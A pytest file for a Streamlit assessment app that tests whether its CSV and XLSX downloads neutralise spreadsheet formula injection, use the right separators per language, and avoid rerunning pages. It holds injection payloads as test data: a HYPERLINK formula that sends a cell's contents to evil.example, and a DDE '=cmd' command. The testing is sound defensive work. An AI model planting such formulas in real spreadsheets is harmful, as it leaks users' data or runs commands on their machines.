"""Every download neutralises a text cell that a spreadsheet would run as a formula: the one
helper (assessment.exports), the invitation links CSV, the sector CSV/XLSX, the action plan
CSV/XLSX (tests/app/test_downloads.py); and Streamlit's own table download is switched off
for the whole app. A CSV is separated and writes its numbers as the language's spreadsheet
reads them (``;`` and a decimal comma in Dutch and French, ``,`` and a point in English), and
no download button of the app reruns the page when clicked."""

import ast
import csv
import io
import tomllib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from assessment.exports import (
    DANGEROUS_STARTS,
    csv_bytes,
    frame_csv,
    frame_xlsx,
    neutralise,
    separator,
)
from assessment.rounds import links_csv
from assessment.sector import to_csv, to_xlsx

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'


def is_safe(value) -> bool:
    """Not a text that a spreadsheet would run (a CSV cell that reads as a number, with a
    decimal point or comma, is fine)."""
    if isinstance(value, str):
        try:
            float(value.replace(",", "."))
        except ValueError:
            return not value.startswith(DANGEROUS_STARTS)
    return True


def csv_cells(data: bytes, lang: str = "nl") -> list[list[str]]:
    """The cells of a CSV in ``lang`` (Dutch: separated by ``;``)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")),
                           delimiter=";" if lang in ("nl", "fr") else ","))


def xlsx_cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", [FORMULA, "+32 3 123 45 67", "-2+3", "@SUM(A1)", "\t=1+1",
                                  "\r=1+1", "=", "-"])
def test_dangerous_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Teamoverleg", " =1", "a=b", "", "'=1", 3, -3, 2.5, None,
                                   "’=1"])
def test_everything_else_is_unchanged(value):
    assert neutralise(value) == value


def test_csv_helper_neutralises_header_and_cells_and_keeps_numbers():
    rows = csv_cells(csv_bytes(["=naam", "n"], [[FORMULA, -3], ["gewoon", 4.5]], "nl"))
    assert rows == [["'=naam", "n"], ["'" + FORMULA, "-3"], ["gewoon", "4,5"]]


def test_frames_as_csv_and_xlsx():
    frame = pd.DataFrame({"actie": [FORMULA, "@Els", "ok"], "cijfer": [-1.5, 2.0, 3.0],
                          "tekst": pd.array(["-x", None, "y"], dtype="string")})
    rows = csv_cells(frame_csv(frame, "en"), "en")
    assert rows[1] == ["'" + FORMULA, "-1.5", "'-x"] and rows[2] == ["'@Els", "2", ""]
    assert all(is_safe(v) for row in rows for v in row)
    cells = xlsx_cells(frame_xlsx(frame))
    assert all(c.data_type != "f" and is_safe(c.value) for c in cells)
    assert [c.value for c in cells[3:6]] == ["'" + FORMULA, -1.5, "'-x"]


# A table as the sector export holds it: text, whole counts (Int64), shares with a decimal
# (Float64), empty cells; a text with the other language's separator in it, and a thousand.
TABLE = pd.DataFrame({
    "Groep": ["Klein; tot 49", "Groot, vanaf 250", "=1+1"],
    "Organisaties": pd.array([12, 1234, None], dtype="Int64"),
    "Werkbaarheidsgraad (%)": pd.array([36.1, -2.5, None], dtype="Float64"),
})


@pytest.mark.parametrize("lang,sep,decimal", [("nl", ";", ","), ("fr", ";", ","),
                                              ("en", ",", ".")])
def test_a_csv_opens_in_columns_with_the_languages_separator_and_decimal_sign(lang, sep,
                                                                               decimal):
    """Belgian Excel (decimal comma) splits a CSV at ``;``: a Dutch CSV with ``,`` opened as
    one column of text. Read as that Excel reads it, every column and number is right."""
    assert separator(lang) == sep
    data = frame_csv(TABLE, lang)
    read = pd.read_csv(io.BytesIO(data), sep=sep, decimal=decimal, encoding="utf-8-sig",
                       thousands=None)
    assert list(read.columns) == list(TABLE.columns)
    assert read["Groep"].tolist() == ["Klein; tot 49", "Groot, vanaf 250", "'=1+1"]
    assert read["Organisaties"].tolist()[:2] == [12, 1234]  # no thousands separator
    assert read["Werkbaarheidsgraad (%)"].tolist()[:2] == [36.1, -2.5]
    assert read.iloc[2, 1:].isna().all()  # empty, not "<NA>" or "nan"
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[1].endswith(f"{sep}12{sep}36{decimal}1") and f"{sep}1234{sep}" in lines[2]


def test_invitation_links_csv_neutralises_a_hostile_base_url():
    rows = csv_cells(links_csv("=cmd|' /C calc'!A0#", ["tok"], "nl"))
    assert rows[1][1].startswith("'=cmd")
    assert csv_cells(links_csv("https://werkbaar.example.be", ["tok"], "en"), "en")[1] == [
        "1", "https://werkbaar.example.be/s/tok"]


def test_sector_exports_neutralise_text_cells():
    table = pd.DataFrame({"Sector": ["+pc:330", "nace:87"], "Organisaties": [12, 7]})
    assert csv_cells(to_csv(table, "nl"))[1] == ["'+pc:330", "12"]
    cells = xlsx_cells(to_xlsx(table))
    assert all(is_safe(c.value) and c.data_type != "f" for c in cells)


def download_buttons() -> list[tuple[str, ast.Call]]:
    """Every ``download_button`` call in the pages and the UI helpers."""
    found = []
    for path in [*(ROOT / "app_pages").glob("*.py"), *(ROOT / "assessment" / "ui").glob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr == "download_button"):
                found.append((f"{path.name}:{node.lineno}", node))
    return found


def test_no_download_button_reruns_the_page():
    """A click that reruns the page made Streamlit forget the file the browser was about to
    ask for ("Deferred file … not found", no file), and wrote its audit entry in the rerun's
    callback all the same: every download button says ``on_click="ignore"``; an audited one
    writes its entry when the file is made (``ui.audited_download``)."""
    buttons = download_buttons()
    assert len(buttons) >= 6, buttons  # the walk finds them
    rerunning = [where for where, call in buttons
                 if not any(k.arg == "on_click" and isinstance(k.value, ast.Constant)
                            and k.value.value == "ignore" for k in call.keywords)]
    assert rerunning == []


def test_streamlit_table_download_is_off_for_the_whole_app():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
